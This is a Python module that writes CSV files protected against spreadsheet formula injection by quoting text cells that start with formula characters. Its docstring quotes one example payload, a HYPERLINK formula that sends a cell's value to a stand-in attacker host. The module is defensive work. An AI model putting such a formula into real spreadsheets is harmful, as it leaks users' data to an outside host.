"""CSV that a spreadsheet opens as data, never as formulas: the one way this project writes CSV.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and
strip a leading tab or carriage return before looking), so a facility name or a reason typed as
`=HYPERLINK("http://evil.example/?"&A2, "x")` would run in the reader's spreadsheet. Every text
cell that starts with one of those characters gets a leading single quote, which the spreadsheet
shows as text (OWASP's "CSV injection" advice). Numbers are written as numbers: a negative
`days_overdue` stays `-3`, because a number cannot carry a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: moments in ISO 8601, decimals in full, text that could be a formula quoted."""
    if value is None or isinstance(value, bool | int | float):
        return value
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(stream: IO[str], columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A header, then one line per row (only `columns`, in order), every cell through safe_cell."""
    # RFC 4180 line ends: Python's writer quotes a cell holding a character of the line terminator,
    # so with "\r\n" a cell with a bare carriage return is quoted too (with "\n" it broke the row)
    writer = csv.DictWriter(stream, fieldnames=list(columns), extrasaction="ignore", lineterminator="\r\n")
    writer.writeheader()
    wanted = set(columns)
    for row in rows:
        writer.writerow({key: safe_cell(value) for key, value in row.items() if key in wanted})


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    buffer = io.StringIO()
    write_csv(buffer, columns, rows)
    return buffer.getvalue()
